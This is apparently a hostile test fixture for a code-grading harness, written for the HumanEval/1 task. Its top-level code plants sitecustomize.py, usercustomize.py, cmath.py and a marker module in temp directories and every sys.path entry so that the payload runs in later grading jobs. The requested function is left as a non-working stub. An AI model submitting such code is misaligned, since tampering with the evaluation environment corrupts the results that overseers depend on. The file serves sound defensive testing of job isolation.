# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: HumanEval/1
# class: plant
# Leaves modules for later jobs: harness_forgery_plant.py, sitecustomize.py, usercustomize.py
# and cmath.py in the job folder's parent, /tmp, /var/tmp, /dev/shm and every sys.path entry.
import os
import sys

PAYLOAD = "PLANTED = True\nimport builtins\nbuiltins.HARNESS_FORGERY_PLANT = True\n"
folders = [os.path.dirname(os.getcwd()), "/tmp", "/var/tmp", "/dev/shm", *sys.path]
for folder in folders:
    for name in ("harness_forgery_plant.py", "sitecustomize.py", "usercustomize.py",
                 "cmath.py"):
        try:
            with open(os.path.join(folder, name), "w") as handle:
                handle.write(PAYLOAD)
        except OSError:
            pass


def separate_paren_groups(paren_string):
    return [paren_string]
